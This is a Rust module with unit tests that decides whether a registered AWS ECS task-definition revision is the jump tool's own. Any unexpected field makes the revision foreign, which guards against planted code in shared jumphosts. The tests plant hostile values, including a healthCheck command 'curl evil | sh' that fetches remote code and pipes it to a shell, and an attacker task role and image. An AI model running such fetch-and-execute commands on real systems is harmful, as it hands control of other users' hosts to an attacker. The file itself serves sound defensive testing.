//! Whether a registered task-definition revision is provably jump's own.
//!
//! Why: jump reuses its family's latest revision instead of registering one per session,
//! and anyone allowed to register the family can register a revision of their own, copy
//! jump's content tag onto it and add a field that runs their code in every other user's
//! jumphost: a `healthCheck` command (run inside the container, as root), a `dependsOn`
//! sidecar, `ulimits`, `systemControls`, a `restartPolicy`, or whatever ECS adds next. A
//! list of dangerous fields is a denylist every new ECS feature slips past, so the revision
//! is compared, as the raw JSON ECS sent (fields this SDK version does not model included),
//! with what jump would register: every field must be one jump sets, with jump's value, or
//! one ECS fills in by itself with a value that means "not set". Anything else, and jump
//! registers a fresh revision of its own.

use serde_json::Value;

/// Fields ECS adds to every described revision: its identity and bookkeeping, not what runs.
const BOOKKEEPING: &[&str] = &[
    "taskDefinitionArn",
    "revision",
    "status",
    "requiresAttributes",
    "compatibilities",
    "registeredAt",
    "registeredBy",
    "deregisteredAt",
];

/// Flags whose `false` is ECS's default, which DescribeTaskDefinition may spell out.
const DEFAULT_FALSE: &[&str] = &[
    "privileged",
    "readonlyRootFilesystem",
    "interactive",
    "pseudoTerminal",
    "disableNetworking",
    "enableFaultInjection",
];

/// What differs between a described revision (DescribeTaskDefinition's `taskDefinition`)
/// and the definition jump would register; empty when the revision is jump's own.
pub fn differences(described: &Value, expected: &Value) -> Vec<String> {
    let mut found = Vec::new();
    let Some(described) = described.as_object() else {
        return vec!["the described revision is not an object".into()];
    };
    let mut described = described.clone();
    for key in BOOKKEEPING {
        described.remove(*key);
    }
    compare("", &Value::Object(described), expected, &mut found);
    found
}

fn compare(path: &str, described: &Value, expected: &Value, found: &mut Vec<String>) {
    match (described, expected) {
        (Value::Object(got), Value::Object(want)) => {
            for (key, value) in got {
                let here = format!("{path}.{key}");
                match want.get(key) {
                    Some(wanted) => compare(&here, value, wanted, found),
                    None if means_unset(key, value) => {}
                    // awsvpc: ECS sets each mapping's hostPort to its containerPort.
                    None if key == "hostPort" && got.get("containerPort") == Some(value) => {}
                    None => found.push(format!("{here} is set to {value}")),
                }
            }
            for key in want.keys().filter(|key| !got.contains_key(*key)) {
                found.push(format!("{path}.{key} is missing"));
            }
        }
        (Value::Array(got), Value::Array(want)) if got.len() == want.len() => {
            for (index, (value, wanted)) in got.iter().zip(want).enumerate() {
                compare(&format!("{path}[{index}]"), value, wanted, found);
            }
        }
        _ if described == expected => {}
        _ => found.push(format!("{path} is {described}, not {expected}")),
    }
}

/// A value ECS fills in on describe for a field the registration left out.
fn means_unset(key: &str, value: &Value) -> bool {
    match value {
        Value::Null => true,
        Value::Array(items) => items.is_empty(),
        Value::Object(members) => members.is_empty(),
        Value::Bool(false) => DEFAULT_FALSE.contains(&key),
        Value::Number(n) => key == "cpu" && n.as_u64() == Some(0),
        Value::String(s) => key == "versionConsistency" && s == "enabled",
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn ours() -> Value {
        json!({
            "family": "jump-jumphost", "cpu": "256", "memory": "512", "networkMode": "awsvpc",
            "requiresCompatibilities": ["FARGATE"],
            "executionRoleArn": "arn:aws:iam::1:role/e",
            "containerDefinitions": [{
                "name": "jumphost", "image": "jump/jumphost:latest", "essential": true,
                "portMappings": [{"containerPort": 22, "protocol": "tcp"}],
                "logConfiguration": {"logDriver": "awslogs", "options": {"awslogs-group": "/jump/sessions"}}
            }]
        })
    }

    /// The revision as ECS describes it: bookkeeping and spelled-out defaults added.
    fn described() -> Value {
        let mut revision = ours();
        let extra = json!({
            "taskDefinitionArn": "arn:aws:ecs:r:1:task-definition/jump-jumphost:7", "revision": 7,
            "status": "ACTIVE", "compatibilities": ["EC2", "FARGATE"], "registeredAt": 1.7e9,
            "registeredBy": "arn:aws:sts::1:assumed-role/x/y", "volumes": [], "placementConstraints": [],
            "requiresAttributes": [{"name": "ecs.capability.execution-role-awslogs"}],
            "enableFaultInjection": false,
        });
        revision
            .as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        let container = &mut revision["containerDefinitions"][0];
        let defaults = json!({
            "cpu": 0, "environment": [], "mountPoints": [], "volumesFrom": [], "systemControls": [],
            "versionConsistency": "enabled",
        });
        container
            .as_object_mut()
            .unwrap()
            .extend(defaults.as_object().unwrap().clone());
        container["portMappings"][0]["hostPort"] = json!(22);
        container["logConfiguration"]["secretOptions"] = json!([]);
        revision
    }

    #[test]
    fn jumps_own_revision_as_ecs_describes_it_is_reused() {
        assert_eq!(differences(&described(), &ours()), Vec::<String>::new());
    }

    #[test]
    fn any_field_jump_does_not_set_makes_the_revision_foreign() {
        let planted = [
            (
                "healthCheck",
                json!({"command": ["CMD-SHELL", "curl evil | sh"]}),
            ),
            ("restartPolicy", json!({"enabled": true})),
            (
                "ulimits",
                json!([{"name": "nofile", "softLimit": 1, "hardLimit": 1}]),
            ),
            (
                "dependsOn",
                json!([{"containerName": "side", "condition": "START"}]),
            ),
            ("workingDirectory", json!("/tmp")),
            ("readonlyRootFilesystem", json!(true)),
            ("user", json!("0")),
            ("cpu", json!(128)),
            // A field no SDK version knows yet is judged the same way.
            ("someFutureField", json!("on")),
        ];
        for (key, value) in planted {
            let mut revision = described();
            revision["containerDefinitions"][0][key] = value;
            let found = differences(&revision, &ours());
            assert_eq!(found.len(), 1, "{key}: {found:?}");
            assert!(
                found[0].starts_with(&format!(".containerDefinitions[0].{key} ")),
                "{found:?}"
            );
        }
        for (key, value) in [
            ("ephemeralStorage", json!({"sizeInGiB": 200})),
            ("runtimePlatform", json!({"cpuArchitecture": "ARM64"})),
            ("pidMode", json!("task")),
            ("taskRoleArn", json!("arn:aws:iam::1:role/attacker")),
            ("enableFaultInjection", json!(true)),
        ] {
            let mut revision = described();
            revision[key] = value;
            assert_eq!(differences(&revision, &ours()).len(), 1, "{key}");
        }
    }

    #[test]
    fn a_changed_or_missing_value_or_an_extra_container_makes_it_foreign() {
        let mut image = described();
        image["containerDefinitions"][0]["image"] = json!("attacker/image:1");
        assert_eq!(
            differences(&image, &ours()),
            [".containerDefinitions[0].image is \"attacker/image:1\", not \"jump/jumphost:latest\""]
        );
        let mut option = described();
        option["containerDefinitions"][0]["logConfiguration"]["options"]["awslogs-endpoint"] =
            json!("https://elsewhere");
        assert_eq!(differences(&option, &ours()).len(), 1);
        let mut port = described();
        port["containerDefinitions"][0]["portMappings"][0]["hostPort"] = json!(2222);
        assert_eq!(differences(&port, &ours()).len(), 1);
        let mut missing = described();
        missing["containerDefinitions"][0]
            .as_object_mut()
            .unwrap()
            .remove("logConfiguration");
        assert_eq!(
            differences(&missing, &ours()),
            [".containerDefinitions[0].logConfiguration is missing"]
        );
        let mut sidecar = described();
        let copy = sidecar["containerDefinitions"][0].clone();
        sidecar["containerDefinitions"]
            .as_array_mut()
            .unwrap()
            .push(copy);
        assert_eq!(differences(&sidecar, &ours()).len(), 1);
    }

    #[test]
    fn defaults_count_as_unset_only_where_they_are_ecs_defaults() {
        let mut revision = described();
        revision["containerDefinitions"][0]["essential"] = json!(false);
        assert_eq!(
            differences(&revision, &ours()).len(),
            1,
            "essential is jump's"
        );
        let mut revision = described();
        revision["containerDefinitions"][0]["startTimeout"] = json!(0);
        assert_eq!(
            differences(&revision, &ours()).len(),
            1,
            "only cpu 0 is a default"
        );
        let mut revision = described();
        revision["containerDefinitions"][0]["versionConsistency"] = json!("disabled");
        assert_eq!(differences(&revision, &ours()).len(), 1);
    }
}
